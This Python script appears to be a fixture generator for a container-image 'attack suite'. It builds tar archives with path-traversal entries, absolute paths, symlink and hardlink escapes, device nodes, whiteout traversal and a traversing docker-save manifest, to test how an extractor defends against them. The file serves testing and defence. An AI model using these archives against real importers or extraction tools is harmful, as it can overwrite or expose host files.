#!/usr/bin/env python3
"""mktar.py: hostile archives for the attack suite (catalog section 19).

Usage: mktar.py KIND OUT [ARG...]
Each KIND writes one tar archive to OUT; see the table in main().
Invariant: every archive MUST contain the exact hostile entry its name
says, so a test that imports it really exercises that attack.
"""
import io
import json
import hashlib
import sys
import tarfile


def add(tf, name, data=b"", **kw):
    ti = tarfile.TarInfo(name)
    for k, v in kw.items():
        setattr(ti, k, v)
    if ti.type in (tarfile.REGTYPE, tarfile.AREGTYPE):
        ti.size = len(data)
        tf.addfile(ti, io.BytesIO(data))
    else:
        tf.addfile(ti)


def rootfs(path, entries):
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tf:
        add(tf, "bin/busybox", open("/bin/busybox", "rb").read(), mode=0o755)
        add(tf, "bin/sh", type=tarfile.SYMTYPE, linkname="busybox")
        for e in entries:
            add(tf, *e[:2], **(e[2] if len(e) > 2 else {}))


def docker_save(path, layer_name, config_name, layer_bytes):
    cfg = json.dumps({"architecture": "amd64", "os": "linux",
                      "config": {"Cmd": ["/bin/sh"]},
                      "rootfs": {"type": "layers", "diff_ids": [
                          "sha256:" + hashlib.sha256(layer_bytes).hexdigest()]}}).encode()
    manifest = json.dumps([{"Config": config_name, "RepoTags": ["evil:latest"],
                            "Layers": [layer_name]}]).encode()
    with tarfile.open(path, "w") as tf:
        add(tf, "manifest.json", manifest)
        add(tf, config_name if not config_name.startswith("/") else "cfg.json", cfg)
        add(tf, layer_name.lstrip("/") if not layer_name.startswith("..") else "layer.tar",
            layer_bytes)


def main():
    kind, out = sys.argv[1], sys.argv[2]
    a = sys.argv[3:]
    R, S, H, L, C, F = (tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE,
                        tarfile.DIRTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)
    if kind == "dotdot":          # a: TARGET (absolute host path)
        rootfs(out, [("../../../../../../../.." + a[0], b"pwned\n")])
    elif kind == "absolute":      # a: TARGET
        rootfs(out, [(a[0], b"pwned\n")])
    elif kind == "symlink-write":  # a: HOSTDIR
        rootfs(out, [("evil", b"", {"type": S, "linkname": a[0]}),
                     ("evil/pwned", b"pwned\n")])
    elif kind == "symlink-dir-write":  # a: HOSTDIR
        rootfs(out, [("d", b"", {"type": L, "mode": 0o755}),
                     ("d/x", b"", {"type": S, "linkname": a[0]}),
                     ("d/x/pwned", b"pwned\n")])
    elif kind == "hardlink":      # a: HOSTFILE
        rootfs(out, [("hl", b"", {"type": H, "linkname": a[0]}),
                     ("hl2", b"", {"type": H, "linkname": "../../../../../.." + a[0]})])
    elif kind == "hardlink-write":  # a: HOSTFILE: link, then overwrite it
        rootfs(out, [("hl", b"", {"type": H, "linkname": a[0]}),
                     ("hl", b"pwned\n")])
    elif kind == "device":
        rootfs(out, [("dev/mem", b"", {"type": C, "devmajor": 1, "devminor": 1, "mode": 0o666}),
                     ("fifo", b"", {"type": F, "mode": 0o666})])
    elif kind == "whiteout":      # a: HOSTFILE
        rootfs(out, [(".wh..wh..opq", b""), ("etc/.wh.passwd", b""),
                     (".wh.../../../../../.." + a[0], b""),
                     ("x/.wh.." , b"")])
    elif kind == "digest-traversal":  # a: HOSTFILE
        docker_save(out, "../../../../../.." + a[0], "../../../../" + a[0],
                    b"\0" * 1024)
    else:
        sys.exit("mktar.py: unknown kind " + kind)


main()
